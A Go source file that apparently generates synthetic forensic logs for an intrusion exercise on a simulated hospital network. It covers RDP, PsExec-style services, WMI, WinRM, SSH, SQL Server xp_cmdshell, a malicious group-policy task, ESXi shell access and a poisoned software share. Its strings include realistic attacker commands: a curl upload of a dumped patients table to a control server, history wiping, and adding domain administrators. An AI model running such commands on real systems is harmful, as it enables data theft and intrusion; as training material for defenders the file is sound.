package exercise

import (
	"fmt"
	"strings"
	"time"

	"wardround/internal/event"
)

// desktop: Remote Desktop from one server to another.
func (t *deed) desktop() {
	x, s, from, at, who := t.x, t.to, t.from, t.at, t.who
	in := s.session(at, who, from.host(), 10)
	desk := x.desk(s, t.d, in)
	there := x.hold(from, at)
	t.arrives(at, "rdp")
	t.does(func(d *dice) {
		if from.system == windows {
			client := from.start(d, at.Add(-12*time.Second), there.process, there.session, `C:\Windows\System32\mstsc.exe`, `"C:\Windows\system32\mstsc.exe" /v:`+s.name)
			from.log(at.Add(-9*time.Second), "client-1024", fields{"Value": s.name, "@user": who.sid, "@pid": client.pid})
			from.log(at.Add(-8*time.Second), "client-1102", fields{"Value": s.address, "@user": who.sid, "@pid": client.pid})
			from.connects(d, at.Add(-8*time.Second), client, x.e.domain.name+`\`+who.name, s.host(), 3389)
			from.explicit(d, at.Add(-2*time.Second), there.session, who, s, `C:\Windows\System32\mstsc.exe`)
		}
		s.rdpAs(d, at, who, from.host(), in)
		s.explorer(d, in, desk)
		if t.option("then", "looks") == "looks" {
			s.types(d, at.Add(2*time.Minute), desk, in, x.looks(d))
		}
		if t.option("stays", "") == "" {
			s.rdpLeaves(at.Add(d.about(70*time.Minute)), in)
		}
	}, from)
}

// remoteServiceStep: a service is installed over SMB and gives a shell. with tool: psexec, remcom, or own (a tool under the
// intruder's name).
func (t *deed) remoteServiceStep() {
	x, s, from, at, who := t.x, t.to, t.from, t.at, t.who
	tool := t.option("tool", "own")
	name, file := x.second, x.second+".exe"
	switch tool {
	case "psexec":
		name, file = "PSEXESVC", "PSEXESVC.exe"
	case "remcom":
		name, file = x.service, x.program
	case "random":
		name = t.d.letters(4, mixed)
		file = t.d.letters(8, mixed) + ".exe"
	}
	there := x.hold(from, at)
	child := &process{image: `C:\Windows\` + file, command: `C:\Windows\` + file, pid: t.d.pid(), at: at.Add(400 * time.Millisecond), folder: `C:\Windows\system32\`}
	x.takes(s, child.at, child, nil, who)
	t.arrives(at, "remote service")
	s.leaves(`C:\Windows\`+file, harmless("the service of a tool that runs programs on other servers stood here"), at)
	lasts := t.d.about(11 * time.Minute)
	var list []run
	if t.option("then", "") == "looks" {
		list = x.looks(t.d)
	}
	t.does(func(d *dice) {
		if from.system == windows {
			x.toolRuns(d, at, from, s, there, who, name)
		}
		var in *session
		if from.system != windows || tool == "remcom" || tool == "random" {
			in = s.ntlm(d, at, who, from.host(), "")
		} else {
			x.e.ticket(d, at, who, from.host(), s, true)
			in = s.kerberos(d, at, who, from.host())
		}
		pipes := psexecPipes(d, name, from.host())
		if tool == "remcom" || tool == "random" {
			pipes = remcomPipes(d)
		}
		s.remoteServiceAs(d, at.Add(400*time.Millisecond), in, name, file, pipes, child)
		if len(list) > 0 {
			s.types(d, at.Add(20*time.Second), child, nil, list)
		}
		end := s.needed(at.Add(lasts))
		s.runs(end, name, name, false)
		s.logoff(end.Add(time.Second), in)
	}, from)
}

// toolRuns is what the tool leaves on the server from which it is used.
func (x *intruder) toolRuns(d *dice, at event.Time, from, s *server, there foothold, who *account, service string) {
	shell := from.start(d, at.Add(-time.Minute), there.process, there.session, `C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe" `)
	tool := &process{image: x.payload + `\ps.exe`, command: `ps.exe  \\` + strings.ToLower(s.name) + ` -accepteula -s -r ` + service + ` cmd.exe`, pid: d.pid(), at: at.Add(-2 * time.Second), session: there.session,
		content: harmless("a tool that runs programs on other servers stood here"), folder: x.payload + `\`}
	from.creates(at.Add(-4*time.Minute), there.process, x.payload+`\ps.exe`)
	from.started(tool, shell)
	from.connects(d, at.Add(-time.Second), from.standing("System"), `NT AUTHORITY\SYSTEM`, s.host(), 445)
	from.connects(d, at.Add(-900*time.Millisecond), tool, x.e.domain.name+`\`+who.name, s.host(), 135)
	from.ends(at.Add(11*time.Minute), tool)
}

// wmi: a process is made by WMI; what it prints comes back over the administrative share.
func (t *deed) wmi() {
	x, s, from, at, who := t.x, t.to, t.from, t.at, t.who
	there := x.hold(from, at)
	host := &process{image: `C:\Windows\System32\wbem\WmiPrvSE.exe`, command: `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, pid: t.d.pid(), at: at.Add(200 * time.Millisecond), folder: `C:\Windows\system32\`}
	in := s.session(at, who, from.host(), 3)
	cmd := &process{image: `C:\Windows\System32\cmd.exe`, pid: t.d.pid(), at: at.Add(time.Second), folder: `C:\`, session: in}
	x.takes(s, cmd.at, host, in, who)
	t.arrives(at, "wmi")
	out := fmt.Sprintf("__%d.%d", at.Std().Unix(), t.d.IntN(9_000_000)+1_000_000)
	lines := []string{"cd \\ ", "whoami", "ipconfig /all", "dir C:\\", "tasklist"}
	t.does(func(d *dice) {
		if from.system == windows {
			from.connects(d, at.Add(-400*time.Millisecond), there.process, x.e.domain.name+`\`+who.name, s.host(), 135)
		}
		s.ntlmAs(d, at, in, "")
		s.started(host, s.standing("svchost-dcom"))
		s.log(at.Add(300*time.Millisecond), "wmi-5857", fields{"ProviderName": "CIMWin32", "ProcessID": host.pid, "ProviderPath": `%systemroot%\system32\wbem\cimwin32.dll`})
		c := s.connection(d, in)
		run := at.Add(time.Second)
		for _, line := range lines {
			p := &process{image: cmd.image, command: `cmd.exe /Q /c ` + line + ` 1> \\127.0.0.1\ADMIN$\` + out + ` 2>&1`, pid: d.pid(), at: run, folder: `C:\`, session: in}
			s.started(p, host)
			c.opens(run.Add(300*time.Millisecond), admin, out, 0x120089)
			c.opens(run.Add(310*time.Millisecond), admin, out, 0x110080)
			s.ends(run.Add(400*time.Millisecond), p)
			run = run.Add(d.about(30 * time.Second))
		}
		s.logoff(run.Add(time.Second), in)
	}, from)
}

// winrm: a session of PowerShell remoting.
func (t *deed) winrm() {
	x, s, from, at, who := t.x, t.to, t.from, t.at, t.who
	there := x.hold(from, at)
	in := s.session(at, who, from.host(), 3)
	host := &process{image: `C:\Windows\System32\wsmprovhost.exe`, command: `C:\Windows\system32\wsmprovhost.exe -Embedding`, pid: t.d.pid(), at: at.Add(600 * time.Millisecond), folder: `C:\Windows\system32\`, session: in}
	x.takes(s, host.at, host, in, who)
	t.arrives(at, "winrm")
	list := x.looks(t.d)
	t.does(func(d *dice) {
		if from.system == windows {
			script := `Enter-PSSession -ComputerName ` + s.name
			client := from.start(d, at.Add(-20*time.Second), there.process, there.session, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell  `)
			from.powershell(d, client, script, false)
			from.log(at.Add(-900*time.Millisecond), "winrm-6", fields{"connection": s.name + "/wsman?PSVersion=5.1.14393.5127", "@user": who.sid, "@pid": client.pid})
			from.connects(d, at.Add(-800*time.Millisecond), client, x.e.domain.name+`\`+who.name, s.host(), 5985)
		}
		x.e.ticket(d, at, who, from.host(), s, true)
		s.kerberosAs(d, at, in)
		s.log(at.Add(100*time.Millisecond), "winrm-169", fields{"username": x.e.domain.name + `\` + who.name, "authenticationMechanism": "Kerberos"})
		s.log(at.Add(400*time.Millisecond), "winrm-91", fields{"resourceUri": "http://schemas.microsoft.com/powershell/Microsoft.PowerShell", "shellId": strings.ToUpper(digest(8, at.String()) + "-4F2A-4C1B-9D3E-" + digest(12, s.key, at.String())), "@user": who.sid})
		s.started(host, s.standing("svchost-dcom"))
		s.powershell(d, host, "whoami /all", false)
		run := at.Add(20 * time.Second)
		for _, r := range list {
			p := s.start(d, run, host, in, `C:\Windows\System32\`+r.image, `"C:\Windows\system32\`+r.image+`"`+strings.TrimPrefix(r.command, strings.TrimSuffix(r.image, ".exe")))
			s.ends(run.Add(500*time.Millisecond), p)
			run = run.Add(d.about(40 * time.Second))
		}
		end := s.needed(run.Add(5 * time.Minute))
		s.ends(end, host)
		s.logoff(end, in)
	}, from)
}

// sshStep: SSH from a Linux server to another, with a key that lay there (with: how: key) or as an account that was made
// (how: made). With then: patients, the patients' table is copied out.
func (t *deed) sshStep() {
	x, s, from, at := t.x, t.to, t.from, t.at
	made := t.option("how", "key") == "made"
	user, uid, method := "deploy", 1001, "publickey"
	if made {
		user, uid, method = x.user, 1007, "password"
	}
	t.who = nil
	x.takes(s, at, nil, nil, nil)
	x.e.reached(s, at, from.host(), from, user, "ssh")
	if !made {
		s.leaves("home/deploy/.bash_history", []byte("# "+event.ExerciseMark+"\nsudo systemctl reload postgresql\nsudo bash\nsudo cat /etc/ehosp/sync.conf\nw\nexit\n"), at.Add(31*time.Minute))
		s.leaves("root/.bash_history", []byte("# "+event.ExerciseMark+"\nid\nuseradd -m -s /bin/bash "+x.user+"\npasswd "+x.user+"\nusermod -aG sudo "+x.user+"\nunset HISTFILE\n"), at.Add(30*time.Minute))
		s.leaves("home/"+x.user+"/.ssh/authorized_keys", []byte("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"+x.e.dice("key of", s.key).letters(43, mixed)+" "+strings.ReplaceAll(event.ExerciseMark, " ", "_")+"\n"), at.Add(7*time.Minute))
	}
	t.does(func(d *dice) {
		line := "ssh -i /tmp/k -o StrictHostKeyChecking=no deploy@" + s.address
		from.shell(d, at.Add(-2*time.Second), line, program("/usr/bin/ssh", strings.Fields(line)[1:]...))
		l := s.ssh(d, at, user, uid, from.host(), method)
		if made {
			s.sudo(at.Add(time.Minute), l, "/home/"+user, "/usr/bin/curl -s -T /var/tmp/.p.gz http://"+x.control[0].address+"/u")
			s.sudo(at.Add(9*time.Minute), l, "/home/"+user, "/usr/bin/rm -f /var/tmp/.p.gz")
			s.sshEnds(at.Add(11*time.Minute), l)
			return
		}
		s.sudo(at.Add(90*time.Second), l, "/home/deploy", "/bin/bash")
		s.sudo(at.Add(3*time.Minute), l, "/home/deploy", "/usr/bin/cat /etc/ehosp/sync.conf")
		s.addsUser(at.Add(6*time.Minute), x.user, 1007)
		if t.option("then", "") == "patients" {
			pid := d.between(2000, 30000)
			s.postgres(at.Add(10*time.Minute), pid, "[unknown]@[unknown]", "LOG:  connection received: host=[local]")
			s.postgres(at.Add(10*time.Minute+5*time.Millisecond), pid, "postgres@appointments", "LOG:  connection authorized: user=postgres database=appointments application_name=psql")
			s.postgres(at.Add(14*time.Minute), pid, "postgres@appointments", "LOG:  duration: %d.%03d ms  statement: COPY (SELECT * FROM patients) TO PROGRAM 'gzip > /var/tmp/.p.gz'", d.between(60_000, 140_000), d.IntN(1000))
		}
		s.sshEnds(at.Add(31*time.Minute), l)
	}, from)
}

// database: with the account that an application uses itself, SQL Server is told to run commands. With add: an account of
// the domain is made an administrator of the server.
func (t *deed) database() {
	x, s, app, at, who := t.x, t.to, t.from, t.at, t.who
	account := x.e.domain.name + `\` + who.name
	x.takes(s, at.Add(30*time.Second), s.standing("sqlservr"), nil, nil)
	there := x.hold(app, at)
	t.arrives(at, "database")
	added := x.e.who(t.option("add", "dba"))
	t.does(func(d *dice) {
		if app.system == windows {
			sqlcmd := `C:\Program Files\Microsoft SQL Server\Client SDK\ODBC\130\Tools\Binn\SQLCMD.EXE`
			app.start(d, at.Add(-time.Second), there.process, there.session, sqlcmd, `sqlcmd  -S `+s.name+` -E -Q "EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE"`)
		}
		s.sqlLogon(at, account, app.address)
		s.sqlSets(at.Add(50*time.Millisecond), "show advanced options", 0, 1)
		s.sqlSets(at.Add(90*time.Millisecond), "xp_cmdshell", 0, 1)
		run := at.Add(30 * time.Second)
		for _, c := range []struct{ line, image string }{
			{"whoami", `C:\Windows\System32\whoami.exe`}, {"ipconfig /all", `C:\Windows\System32\ipconfig.exe`},
			{"net localgroup administrators " + x.e.domain.name + `\` + added.name + " /add", `C:\Windows\System32\net.exe`},
		} {
			shell := s.cmdshell(d, run, account, app.address, c.line)
			p := s.start(d, run.Add(70*time.Millisecond), shell, nil, c.image, c.line)
			s.ends(run.Add(300*time.Millisecond), p)
			run = run.Add(d.about(40 * time.Second))
		}
		s.log(run, "4732", s.self().with(fields{"MemberSid": added.sid, "TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544"}))
	}, app)
}

// policy: a group policy of the domain gives its computers a task that starts a program of the domain's share. from is the
// domain controller on which the policy was changed.
func (t *deed) policy() {
	x, s, dc, at, who := t.x, t.to, t.from, t.at, t.who
	there := x.hold(dc, at)
	const name = `\Microsoft Update Health`
	program := `\\` + x.e.domain.dns + `\NETLOGON\` + x.program
	p := &process{image: program, command: program, pid: t.d.pid(), at: at.Add(30 * time.Second), folder: `C:\Windows\system32\`, content: harmless("a program that a policy spreads stood here")}
	x.takes(s, p.at, p, nil, nil)
	t.who = nil
	t.arrives(at, "gpo")
	guid := strings.ToUpper("{" + digest(8, x.program) + "-6AC1-4F2D-B7A1-" + digest(12, x.program, x.service) + "}")
	changed := at.Add(-t.d.about(40 * time.Minute))
	first := !dc.marked["policy"]
	dc.mark("policy")
	if first {
		dc.leaves(`C:\Windows\SYSVOL\domain\scripts\`+x.program, p.content, changed)
		dc.leaves(`C:\Windows\SYSVOL\domain\Policies\`+guid+`\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`,
			[]byte("<!-- "+event.ExerciseMark+" -->\r\n"+`<ScheduledTasks><ImmediateTaskV2 name="Microsoft Update Health" userContext="0"><Properties action="C" name="Microsoft Update Health" runAs="NT AUTHORITY\System"><Exec><Command>`+program+`</Command></Exec></Properties></ImmediateTaskV2></ScheduledTasks>`), changed)
	}
	t.does(func(d *dice) {
		if first {
			dc.creates(changed, there.process, `C:\Windows\SYSVOL\domain\scripts\`+x.program)
			dc.creates(changed.Add(time.Minute), there.process, `C:\Windows\SYSVOL\domain\Policies\`+guid+`\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`)
			dn := `CN=` + guid + `,CN=POLICIES,CN=SYSTEM,DC=` + strings.ToUpper(strings.ReplaceAll(x.e.domain.dns, ".", ",DC="))
			in := there.session
			if in == nil {
				in = dc.session(changed.Add(-time.Minute), who, dc.host(), 3)
			}
			for i, v := range []string{"3", "5"} {
				dc.log(changed.Add(time.Minute), "5136", dc.subject(in).with(fields{"OpCorrelationID": d.guid(), "DSName": x.e.domain.dns, "ObjectDN": dn, "ObjectGUID": d.guid(), "ObjectClass": "groupPolicyContainer",
					"AttributeLDAPDisplayName": "versionNumber", "AttributeSyntaxOID": "2.5.5.9", "AttributeValue": v, "OperationType": []string{"%%14675", "%%14674"}[i]}))
			}
		}
		s.log(at, "1502", fields{"ProcessingTimeInMilliseconds": d.between(700, 2600), "DCName": `\\` + dc.computer(), "@activity": d.guid()})
		s.log(at.Add(20*time.Second), "task-106", fields{"TaskName": name, "UserContext": `NT AUTHORITY\System`})
		xml := `<?xml version="1.0" encoding="UTF-16"?>` + "\r\n" + `<Task version="1.3" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Principals><Principal id="Author"><UserId>NT AUTHORITY\System</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Actions Context="Author"><Exec><Command>` + program + `</Command></Exec></Actions></Task>`
		if s.commands {
			s.log(at.Add(20*time.Second), "4698", s.self().with(fields{"TaskName": name, "TaskContent": xml}))
		}
		s.runsTaskAs(d, at.Add(30*time.Second), name, "S-1-5-18", p, 6*time.Minute)
		s.log(at.Add(20*time.Minute), "task-141", fields{"TaskName": name, "UserName": `NT AUTHORITY\System`})
	}, dc)
}

// mark remembers something of a server while the story is planned.
func (s *server) mark(what string) {
	if s.marked == nil {
		s.marked = map[string]bool{}
	}
	s.marked[what] = true
}

// esxiShell: SSH is switched on at a hypervisor and root logs on.
func (t *deed) esxiShell() {
	x, s, from, at := t.x, t.to, t.from, t.at
	x.takes(s, at, nil, nil, nil)
	t.who = nil
	x.e.reached(s, at, from.host(), from, "root", "ssh")
	s.shellFrom = from
	t.does(func(d *dice) {
		s.esxi("hostd", at.Add(-4*time.Minute), " info hostd[2099%03d] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event %d : User root@%s logged in as Mozilla/5.0 (Windows NT 10.0; Win64; x64)", d.IntN(900), 90000+d.IntN(900), from.address)
		s.esxi("hostd", at.Add(-3*time.Minute), " info hostd[2099%03d] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event %d : SSH access has been enabled.", d.IntN(900), 91000+d.IntN(900))
		s.esxi("vobd", at.Add(-3*time.Minute), ": [UserLevelCorrelator] %dus: [esx.audit.ssh.enabled] SSH access has been enabled.", 900_000_000+d.IntN(99_000_000))
		pid := x.shellPID(s, 0)
		x.opensShell(d, s, from, at, pid)
		for i, c := range []string{"uname -a", "esxcli vm process list", "esxcli storage filesystem list", "vim-cmd vmsvc/getallvms"} {
			s.esxi("shell", at.Add(time.Duration(20+25*i)*time.Second), " shell[%d]: [root]: %s", pid+1, c)
		}
	}, from)
}

// opensShell leaves what a session of root's at a hypervisor leaves at both ends.
func (x *intruder) opensShell(d *dice, s, from *server, at event.Time, pid int) {
	if there := x.hold(from, at); from.system == windows {
		client := from.start(d, at.Add(-9*time.Second), there.process, there.session, x.payload+`\plink.exe`, `plink.exe  -ssh root@`+s.address)
		from.connects(d, at.Add(-4*time.Second), client, `NT AUTHORITY\SYSTEM`, s.host(), 22)
	} else {
		from.shell(d, at.Add(-4*time.Second), "ssh root@"+s.address, program("/usr/bin/ssh", "root@"+s.address))
	}
	s.esxi("auth", at.Add(-2*time.Second), " sshd[%d]: Connection from %s port %d", pid, from.address, d.port())
	s.esxi("auth", at, " sshd[%d]: Accepted keyboard-interactive/pam for root from %s port %d ssh2", pid, from.address, d.port())
	s.esxi("auth", at, " sshd[%d]: pam_unix(sshd:session): session opened for user root by (uid=0)", pid)
	s.esxi("vobd", at.Add(time.Second), ": [UserLevelCorrelator] %dus: [esx.audit.ssh.session.opened] SSH session was opened for 'root@%s'.", 900_000_000+d.IntN(99_000_000), from.address)
	s.esxi("shell", at.Add(time.Second), " shell[%d]: Interactive shell session started", pid+1)
}

// shellPID is the process of the intruder's n-th session at a hypervisor; that of its shell is one more.
func (x *intruder) shellPID(s *server, n int) int {
	return 2099100 + 900*n + x.e.dice("shell of "+s.name).IntN(800)
}

// softwareShare: from is the server that spreads the hospital's programs; its nightly copy brings the intruder's file along.
// Nobody of his logs on, and nothing is run.
func (t *deed) softwareShare() {
	x, s, share, at := t.x, t.to, t.from, t.at
	who := x.e.services["deploy"]
	s.leaves(`C:\Hospital\Software\versions.dll`, x.dropper, at.Add(40*time.Second))
	if s.truth.verdict != event.Infiltrated {
		s.truth.verdict, s.truth.decoy = event.Suspected, "dropper copied by the software share, never run"
	}
	t.does(func(d *dice) {
		x.e.ticket(d, at, who, share.host(), s, false)
		in := s.kerberos(d, at, who, share.host())
		c := s.connection(d, in)
		for i, name := range []string{"hospital.exe", "viewer.dll", "report.ocx", "versions.dll"} {
			c.opens(at.Add(time.Duration(1+i)*9*time.Second), programs, `Software\`+name, 0x120196)
			s.creates(at.Add(time.Duration(1+i)*9*time.Second+40*time.Millisecond), s.standing("System"), `C:\Hospital\Software\`+name)
		}
		s.logoff(at.Add(time.Minute), in)
	}, share)
}
